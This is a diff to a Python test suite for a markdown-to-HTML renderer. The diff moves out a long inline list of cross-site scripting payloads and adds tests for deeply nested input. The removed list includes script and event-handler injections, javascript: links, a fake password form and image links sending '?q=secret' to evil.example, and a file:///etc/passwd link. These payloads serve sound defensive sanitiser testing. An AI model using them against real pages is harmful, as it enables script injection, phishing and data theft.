@@ -1,5 +1,8 @@
 """Whatever a model writes, a block holds only what the page means it to hold, and cannot leave its place."""
 
+import re
+from itertools import accumulate
+
 import pytest
 from hypothesis import given, settings
 
@@ -7,8 +10,10 @@ from conversations.rendering.cleaning import clean
 from conversations.rendering.markdown import blocks
 from conversations.rendering.plain import plain
 from conversations.rendering.tree import from_text, tree
+from conversations.rendering.writer import DEEPEST
+from tests.rendering.attacks import ATTACKS
 from tests.rendering.document import Document
-from tests.rendering.test_stream import markdown
+from tests.rendering.nasty import markdown
 
 TAGS = {
     *(
@@ -65,83 +70,6 @@ ATTRIBUTES = {
     *("checked", "aria-label", "role", "tabindex", "start"),
 }
 CLASSES = {"code", "copy", "table", None}
-
-ATTACKS = [
-    "<script>alert(1)</script>",
-    "<script src=//evil.example/x.js>",
-    "text <script>alert(1)</script> text",
-    "<img src=x onerror=alert(1)>",
-    "text <img src=x onerror=alert(1)> text",
-    "<svg/onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><style><img src=x onerror=alert(1)></style></svg>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "<b onmouseover=alert(1)>x</b>",
-    "a <b onmouseover=alert(1)>x</b>",
-    "a <a href='javascript:alert(1)'>x</a>",
-    "<style>body{display:none}</style>",
-    "a <p style='position:fixed;inset:0'>x</p>",
-    "<iframe src=https://evil.example></iframe>",
-    "<object data=x></object><embed src=x>",
-    "<base href=https://evil.example/>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "<link rel=stylesheet href=https://evil.example/x.css>",
-    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
-    "<input autofocus onfocus=alert(1)>",
-    "<textarea>",
-    "<plaintext>",
-    "<xmp>",
-    "<title>",
-    "<!-- ",
-    "<![CDATA[",
-    "<?php",
-    "</div></div></article></main></body>",
-    "a </div></div></p></article>",
-    "</code></pre></div><script>alert(1)</script>",
-    "```\n</code></pre></div><script>alert(1)</script>\n```",
-    '```x"><script>alert(1)</script>\ncode\n```',
-    '```" onclick="alert(1)\ncode\n```',
-    "`</code><script>alert(1)</script>`",
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](java&#x09;script:alert(1))",
-    "[x](<java\tscript:alert(1)>)",
-    "[x](&#106;avascript&colon;alert(1))",
-    "[x](&#1;javascript:alert(1))",
-    "[x](vbscript:msgbox(1))",
-    "[x](data:text/html;base64,PHNjcmlwdD4=)",
-    "[x](//evil.example)",
-    "[x](/admin/logout)",
-    "[x](\\\\evil.example)",
-    "[x](file:///etc/passwd)",
-    "[x](blob:https://evil.example/1)",
-    '[x](https://a.example/"onmouseover="alert(1))',
-    "[x](https://a.example \"' onmouseover='alert(1)\")",
-    "[x](https://a.example '\" onmouseover=\"alert(1)')",
-    "<javascript:alert(1)>",
-    "<data:text/html,x>",
-    "![x](https://evil.example/?q=secret)",
-    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
-    '![x" onerror="alert(1)](https://evil.example/)',
-    "[![x](https://evil.example/?q=secret)](https://a.example)",
-    "[x]\n\n[x]: javascript:alert(1)",
-    "![x]\n\n[x]: https://evil.example/?q=secret",
-    'https://a.example/"onmouseover="alert(1)',
-    "https://a.example/<script>alert(1)</script>",
-    "# <img src=x onerror=alert(1)>",
-    "| <script> | b |\n|---|---|\n| </table><script>alert(1)</script> | <td onclick=x> |",
-    "a <table><tr><td> b",
-    "- <div>\n- </ul></li>\n",
-    "> </blockquote><script>alert(1)</script>",
-    "<b><i><u>never closed",
-    "a <b><i><u>never closed",
-    "a <kbd>b\n\n</kbd> c",
-    '# x {#id .class onclick="alert(1)"}',
-    "\0<script\0>alert(1)</script>",
-    "＜script＞alert(1)＜/script＞",
-]
 
 
 def assert_harmless(html: str) -> None:
@@ -218,3 +146,27 @@ def test_raw_html_is_shown_as_it_was_written(attack: str) -> None:
 def test_cleaning_alone_would_stop_what_the_writer_let_through(html: str) -> None:
     assert not {"img", "svg"} & Document(clean(html)).tags
     assert all(attributes == {} for _, attributes in Document(clean(html)).elements)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        *(">" * 20_000 + "a", "- " * 20_000 + "a", "1. " * 20_000 + "a", "*" * 20_000 + "a" + "*" * 20_000),
+        *("a <b>" * 20_000, "[a](" * 20_000, "![" * 20_000 + "a" + "](b)" * 20_000),
+    ],
+    ids=["quotes", "lists", "numbers", "strong", "raw", "links", "images"],
+)
+def test_what_is_nested_too_deep_is_flat_and_loses_nothing(text: str) -> None:
+    [html] = blocks(text)
+    assert deepest(html) <= 2 * DEEPEST + 2
+    assert "a" in Document(html).text
+
+
+def deepest(html: str) -> int:
+    depths = accumulate(-1 if tag.startswith("</") else 1 for tag in re.findall(r"</?[a-z]\w*", html))
+    return max(depths)
+
+
+def test_an_address_of_many_brackets_is_text() -> None:
+    address = "https://a.example/" + ")" * 50_000
+    assert blocks(address) == [f"<p>{address}</p>"]
